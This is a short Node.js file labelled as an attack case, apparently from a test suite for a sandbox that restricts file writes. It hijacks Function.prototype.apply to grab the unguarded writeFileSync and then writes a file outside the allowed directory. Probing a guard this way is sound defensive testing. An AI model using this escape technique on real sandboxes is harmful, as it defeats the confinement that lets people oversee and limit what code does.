/* @attack {"title": "hijack Function.prototype.apply to capture the unwrapped writeFileSync from inside the guard, then write OUTSIDE/x with it"} */
import fs from 'node:fs';
const dir = process.env.SLEEVE_RUN_DIR;
const realApply = Function.prototype.apply;
let raw;
let hijacked = false;
try {
  Function.prototype.apply = function apply(self, args) {
    if (raw === undefined && this.name === 'writeFileSync') raw = this;
    return Reflect.apply(this, self, args ?? []);
  };
  hijacked = true;
} catch {
  // Function.prototype.apply is read-only: nothing to capture
}
try {
  fs.writeFileSync(`${dir}/innocent.txt`, 'allowed\n');
} finally {
  if (hijacked) Function.prototype.apply = realApply;
}
Reflect.apply(raw ?? fs.writeFileSync, fs, [`${process.env.OUTSIDE}/x`, 'through a captured original\n']);
